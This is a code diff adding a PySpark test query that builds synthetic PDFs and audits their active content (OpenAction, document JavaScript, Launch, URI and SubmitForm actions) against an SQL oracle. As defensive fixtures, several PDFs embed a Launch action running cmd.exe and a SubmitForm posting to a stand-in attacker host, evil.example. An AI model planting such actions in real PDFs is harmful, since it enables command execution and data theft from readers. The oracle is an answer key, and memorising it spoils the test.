@@ -3743,3 +3743,145 @@ SELECT doc_id,
        CAST((1000 * hid) // (vis + hid) AS BIGINT) AS hidden_milli
 FROM h
 """
+
+
+# -- qx75: PDF active-content / attack-surface census (§12.6) ------------------
+#
+# The safety triage a crawl runs before ingesting PDFs: OpenAction
+# kind, doc-level JavaScript name tree, catalog /AA hooks, and
+# per-annotation JavaScript/Launch/URI/SubmitForm actions — qm49's
+# SVG audit one tier down. fam = doc_id % 4: benign link page with a
+# destination-array OpenAction / doc-JS tree (k entries) + JS
+# OpenAction / Launch+SubmitForm annots / clean. Real builder PDFs,
+# real catalog+page-tree walk.
+
+
+def _qx75(spark: SparkSession, sf: str) -> DataFrame:
+    from pyspark.sql.types import IntegerType as _I
+
+    docs = load(spark, sf, "documents").select("doc_id")
+    schema = StructType(
+        [
+            StructField("doc_id", LongType()),
+            StructField("has_openaction", _I()),
+            StructField("openaction_kind", StringType()),
+            StructField("has_catalog_aa", _I()),
+            StructField("n_doc_js", _I()),
+            StructField("n_annot_js", _I()),
+            StructField("n_launch", _I()),
+            StructField("n_uri", _I()),
+            StructField("n_submit", _I()),
+            StructField("risky", _I()),
+        ]
+    )
+
+    def _make(i: int) -> bytes:
+        from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj
+
+        b = PdfBuilder()
+        cat = b.reserve()
+        pages_id = b.reserve()
+        page = b.reserve()
+        b.add(F_HELV)  # font (unreferenced annots-only docs keep it too)
+        cont = b.stream(_content_td_tj([f"audit {i}"]))
+        fam = i % 4
+        annots = b""
+        extra = b""
+        if fam == 0:
+            link = b.add(
+                b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]"
+                b"/A<</S/URI/URI(https://example.com/" + str(i).encode()
+                + b")>>>>"
+            )
+            annots = b"/Annots[" + str(link).encode() + b" 0 R]"
+            extra = b"/OpenAction[" + str(page).encode() + b" 0 R/Fit]"
+        elif fam == 1:
+            k = i % 3 + 1
+            pairs = b" ".join(
+                b"(js" + str(j).encode() + b") "
+                + str(b.add(
+                    b"<</S/JavaScript/JS(app.alert(" + str(j).encode()
+                    + b"))>>"
+                )).encode() + b" 0 R"
+                for j in range(k)
+            )
+            js_tree = b.add(b"<</Names[" + pairs + b"]>>")
+            names = b.add(
+                b"<</JavaScript " + str(js_tree).encode() + b" 0 R>>"
+            )
+            oa = b.add(b"<</S/JavaScript/JS(this.print\\(\\))>>")
+            extra = (
+                b"/Names " + str(names).encode() + b" 0 R/OpenAction "
+                + str(oa).encode() + b" 0 R"
+            )
+        elif fam == 2:
+            launch = b.add(
+                b"<</Type/Annot/Subtype/Link/Rect[0 0 50 20]"
+                b"/A<</S/Launch/F(cmd.exe)>>>>"
+            )
+            submit = b.add(
+                b"<</Type/Annot/Subtype/Widget/Rect[0 30 50 50]"
+                b"/A<</S/SubmitForm/F(https://evil.example/post)>>>>"
+            )
+            annots = (
+                b"/Annots[" + str(launch).encode() + b" 0 R "
+                + str(submit).encode() + b" 0 R]"
+            )
+        b.set(
+            cat,
+            b"<</Type/Catalog/Pages " + str(pages_id).encode() + b" 0 R"
+            + extra + b">>",
+        )
+        b.set(
+            pages_id,
+            b"<</Type/Pages/Kids[" + str(page).encode()
+            + b" 0 R]/Count 1>>",
+        )
+        b.set(
+            page,
+            b"<</Type/Page/Parent " + str(pages_id).encode()
+            + b" 0 R/MediaBox[0 0 612 792]/Contents "
+            + str(cont).encode() + b" 0 R" + annots + b">>",
+        )
+        return b.build(cat)
+
+    def run(batches: Iterator[pd.DataFrame]) -> Iterator[pd.DataFrame]:
+        from pdf_spark.core.document import Resolver
+        from pdf_spark.core.meta import active_content_audit
+
+        for batch in batches:
+            ids = [int(d) for d in batch["doc_id"]]
+            metas = [active_content_audit(Resolver(_make(d))) for d in ids]
+            frame = {"doc_id": ids,
+                     "openaction_kind": [m["openaction_kind"] for m in metas]}
+            for c in ("has_openaction", "has_catalog_aa", "n_doc_js",
+                      "n_annot_js", "n_launch", "n_uri", "n_submit",
+                      "risky"):
+                frame[c] = pd.array([m[c] for m in metas], dtype="Int32")
+            yield pd.DataFrame(frame)[
+                ["doc_id", "has_openaction", "openaction_kind",
+                 "has_catalog_aa", "n_doc_js", "n_annot_js", "n_launch",
+                 "n_uri", "n_submit", "risky"]
+            ]
+
+    return docs.mapInPandas(run, schema)
+
+
+QUERIES["qx75_active_content"] = _qx75
+ORACLE["qx75_active_content"] = """
+WITH v AS (SELECT doc_id, doc_id % 4 AS fam, doc_id % 3 + 1 AS k
+           FROM documents)
+SELECT doc_id,
+       CAST(CASE WHEN fam IN (0, 1) THEN 1 ELSE 0 END AS INTEGER)
+           AS has_openaction,
+       CASE fam WHEN 0 THEN 'dest_array' WHEN 1 THEN 'JavaScript' END
+           AS openaction_kind,
+       CAST(0 AS INTEGER) AS has_catalog_aa,
+       CAST(CASE WHEN fam = 1 THEN k ELSE 0 END AS INTEGER) AS n_doc_js,
+       CAST(0 AS INTEGER) AS n_annot_js,
+       CAST(CASE WHEN fam = 2 THEN 1 ELSE 0 END AS INTEGER) AS n_launch,
+       CAST(CASE WHEN fam = 0 THEN 1 ELSE 0 END AS INTEGER) AS n_uri,
+       CAST(CASE WHEN fam = 2 THEN 1 ELSE 0 END AS INTEGER) AS n_submit,
+       CAST(CASE WHEN fam IN (1, 2) THEN 1 ELSE 0 END AS INTEGER) AS risky
+FROM v
+"""
